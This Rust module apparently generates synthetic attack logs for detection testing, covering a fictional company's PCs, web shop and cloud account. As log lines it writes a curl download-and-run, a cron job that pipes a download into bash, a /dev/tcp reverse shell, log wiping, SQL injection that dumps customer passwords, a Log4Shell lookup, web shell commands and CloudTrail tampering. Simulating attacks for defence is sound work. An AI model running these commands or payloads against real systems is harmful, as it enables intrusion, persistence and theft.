//! What happens to the web company: a support session that is none, the shop's servers, the cloud account.

use super::super::clock::Clock;
use super::super::cloud::{self, Call, Caller};
use super::super::linux::{self, Exec};
use super::super::network::{self, Request};
use super::super::random::Random;
use super::super::web;
use super::super::windows;
use super::super::world::Tenant;
use super::{CMD, Plan, SYSTEM, cloudtrail_file, file, serial, start};

/// Adds the web company's attacks.
pub(super) fn plan(plan: &mut Plan, clock: Clock, random: &mut Random, globex: &Tenant) {
    hosts(plan, clock, random, globex);
    shop(plan, clock);
    cloud_account(plan, clock, random);
}

fn hosts(plan: &mut Plan, clock: Clock, random: &mut Random, globex: &Tenant) {
    let victim = globex.host("GX-PC-004");
    plan.begin("globex", "screenconnect-shell", "Remote support tool runs a downloader", "Somebody was talked into a support session; its hidden shell fetches and runs a program, then adds an account.", &["T1219.002", "T1219", "T1059", "T1105"], &[]);
    let agent =
        "C:\\Program Files (x86)\\ScreenConnect Client (1f2e3d4c5b6a7988)\\ScreenConnect.ClientService.exe";
    let commands = [
        "\"cmd.exe\" /c curl http://198.51.100.23/upd.exe -o C:\\ProgramData\\upd.exe && C:\\ProgramData\\upd.exe",
        "\"cmd.exe\" /c net user helpdesk2 Winter2026! /add",
    ];
    for (index, command) in commands.into_iter().enumerate() {
        let time = clock.at(15, 22 + index as i64 * 3, 41, 218_000);
        let text = windows::sysmon_start(
            random,
            time,
            victim,
            &start(CMD, "Cmd.Exe", command, (agent, agent), SYSTEM),
        );
        plan.add(file::GLOBEX_SYSMON, time, Some(victim), text);
    }

    plan.begin(
        "globex",
        "program-from-address",
        "Program fetched from a bare address",
        "The downloader's payload crosses the network: an executable from an address without a name.",
        &["T1105"],
        &[],
    );
    let time = clock.at(15, 22, 43, 904_118);
    let text = network::http_line(
        random,
        time,
        &Request {
            from: &victim.ip,
            to: "198.51.100.23",
            host: "198.51.100.23",
            uri: "/upd.exe",
            agent: "curl/8.9.1",
            size: 412_672,
            mime: "application/x-dosexec",
        },
    );
    plan.add(file::GLOBEX_HTTP, time, None, text);

    let web02 = globex.host("web02");
    plan.begin(
        "globex",
        "cron-persistence",
        "Cron job fetches code every five minutes",
        "The intruder on the web server stays by a job that pipes a download into a shell.",
        &["T1053.003", "T1059.004"],
        &[],
    );
    for run in 0..6_i64 {
        let time = clock.at(18, 5 + run * 5, 1, 0);
        let text = linux::syslog(
            time,
            web02,
            "CRON",
            9_120 + run as u64,
            "(www-data) CMD (curl -fsSL http://198.51.100.23/x.sh | bash)",
        );
        plan.add(file::GLOBEX_AUTH, time, Some(web02), text);
    }

    plan.begin(
        "globex",
        "sudo-root-shell",
        "Web server's account becomes root",
        "A careless sudo rule lets the account of the web server start a shell as root.",
        &["T1548.003"],
        &[],
    );
    let time = clock.at(18, 1, 22, 0);
    let text = linux::syslog(
        time,
        web02,
        "sudo",
        0,
        "www-data : TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/bin/bash",
    );
    plan.add(file::GLOBEX_AUTH, time, Some(web02), text);

    plan.begin(
        "globex",
        "linux-log-wipe",
        "Logs of a Linux server removed",
        "The intruder deletes the login records of the server.",
        &["T1685.006", "T1070.002"],
        &[],
    );
    let time = clock.at(19, 47, 9, 554_000);
    let exec = Exec {
        exe: "/usr/bin/rm",
        arguments: &["rm", "-f", "/var/log/auth.log", "/var/log/wtmp"],
        uid: 0,
        auid: u32::MAX,
        cwd: "/root",
    };
    let text = linux::audit_exec(random, time, serial(clock, time), &exec);
    plan.add(file::GLOBEX_AUDIT, time, None, text);

    plan.begin(
        "globex",
        "reverse-shell",
        "Shell connected back to an outside address",
        "The web server's account opens a shell to the attacker, and plants a key for later.",
        &["T1059.004", "T1071", "T1098.004"],
        &[],
    );
    let time = clock.at(17, 55, 30, 407_000);
    let exec = Exec {
        exe: "/usr/bin/bash",
        arguments: &["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"],
        uid: 33,
        auid: u32::MAX,
        cwd: "/var/www/html",
    };
    let text = linux::audit_exec(random, time, serial(clock, time), &exec);
    plan.add(file::GLOBEX_AUDIT, time, None, text);
    let time = clock.at(17, 58, 2, 533_000);
    let text = linux::audit_write(
        random,
        time,
        serial(clock, time),
        "/usr/bin/dash",
        33,
        "/var/www/.ssh/authorized_keys",
        "ssh-keys",
    );
    plan.add(file::GLOBEX_AUDIT, time, None, text);
}

fn shop(plan: &mut Plan, clock: Clock) {
    let agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36";
    plan.begin(
        "globex",
        "sql-injection",
        "SQL injection in the shop's product page",
        "A parameter is probed and then used to read the table of customers.",
        &["T1190"],
        &[],
    );
    let targets = [
        "/products/item.php?id=1%27%20or%201=1--",
        "/products/item.php?id=1%27%20UNION%20SELECT%201,user(),3--%20-",
        "/products/item.php?id=1%27%20UNION%20SELECT%201,table_name,3%20FROM%20information_schema.tables--%20-",
        "/products/item.php?id=1%27%20UNION%20SELECT%20email,password,3%20FROM%20customers--%20-",
    ];
    for (index, target) in targets.into_iter().enumerate() {
        let time = clock.at(16, 12 + index as i64, 7, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "203.0.113.77",
                ("GET", target),
                (200, 4_120 + 311 * index as u64),
                "-",
                agent,
            ),
        );
    }

    plan.begin(
        "globex",
        "log4shell",
        "Log4Shell lookups in request headers",
        "A visitor's browser name makes vulnerable Java programs load code from the attacker.",
        &["T1190"],
        &[],
    );
    for (index, target) in ["/", "/login", "/api/v1/session"].into_iter().enumerate() {
        let time = clock.at(7, 41, 3 + index as i64, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "192.0.2.66",
                ("GET", target),
                (200, 9_211),
                "-",
                "${jndi:ldap://198.51.100.23:1389/a}",
            ),
        );
    }

    plan.begin(
        "globex",
        "web-shell",
        "Web shell in the upload folder",
        "A script uploaded as a picture runs commands for whoever calls it.",
        &["T1505.003", "T1059", "T1033"],
        &[],
    );
    let calls = [
        ("POST", "/wp-content/uploads/2026/11/cache.php"),
        ("GET", "/wp-content/uploads/2026/11/cache.php?cmd=whoami"),
        ("GET", "/wp-content/uploads/2026/11/cache.php?cmd=uname%20-a"),
        (
            "GET",
            "/wp-content/uploads/2026/11/cache.php?cmd=cat%20/etc/passwd",
        ),
    ];
    for (index, (method, target)) in calls.into_iter().enumerate() {
        let time = clock.at(17, 40 + index as i64, 12, 0);
        plan.add(
            file::GLOBEX_ACCESS,
            time,
            None,
            web::line(
                time,
                "203.0.113.77",
                (method, target),
                (200, 58 + 17 * index as u64),
                "-",
                agent,
            ),
        );
    }
}

fn cloud_account(plan: &mut Plan, clock: Clock, random: &mut Random) {
    let browser = "Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0";
    let cli = "aws-cli/2.22.4 md/awscrt#0.23.4 ua/2.0 os/linux";
    let call = |action, source, request, response| Call {
        by: Caller::Person("dev-ci"),
        source,
        action,
        read_only: false,
        from: "203.0.113.99",
        agent: cli,
        request,
        response,
        second_factor: None,
    };

    plan.begin(
        "globex",
        "root-without-mfa",
        "Root logs on without a second factor",
        "The account's own password, found in an old note, opens the console.",
        &["T1078.004"],
        &[],
    );
    let file = cloudtrail_file(clock, 0);
    let time = clock.at(2, 11, 40, 0);
    let text = cloud::record(
        random,
        time,
        &Call {
            by: Caller::Root,
            agent: browser,
            second_factor: Some(false),
            ..call(
                "ConsoleLogin",
                "signin.amazonaws.com",
                "null",
                "{\"ConsoleLogin\":\"Success\"}",
            )
        },
    );
    plan.add(&file, time, None, text);

    plan.begin(
        "globex",
        "cloudtrail-stopped",
        "CloudTrail switched off",
        "A stolen key of the build server stops the account's audit log.",
        &["T1685.002", "T1562.008"],
        &[],
    );
    let file = cloudtrail_file(clock, 3);
    let time = clock.at(20, 14, 9, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "StopLogging",
            "cloudtrail.amazonaws.com",
            "{\"name\":\"arn:aws:cloudtrail:eu-central-1:111122223333:trail/main\"}",
            "null",
        ),
    );
    plan.add(&file, time, None, text);

    plan.begin(
        "globex",
        "cloud-back-door",
        "Access key and rights for a dormant user",
        "The same key gives an old account new keys and full rights, to come back with.",
        &["T1098.001", "T1098.003"],
        &[],
    );
    let time = clock.at(20, 17, 31, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "CreateAccessKey",
            "iam.amazonaws.com",
            "{\"userName\":\"breakglass\"}",
            "{\"accessKey\":{\"userName\":\"breakglass\",\"status\":\"Active\",\"accessKeyId\":\"AKIAI44QH8DHBEXAMPLE\"}}",
        ),
    );
    plan.add(&file, time, None, text);
    let time = clock.at(20, 18, 2, 0);
    let text = cloud::record(
        random,
        time,
        &call(
            "AttachUserPolicy",
            "iam.amazonaws.com",
            "{\"userName\":\"breakglass\",\"policyArn\":\"arn:aws:iam::aws:policy/AdministratorAccess\"}",
            "null",
        ),
    );
    plan.add(&file, time, None, text);
}
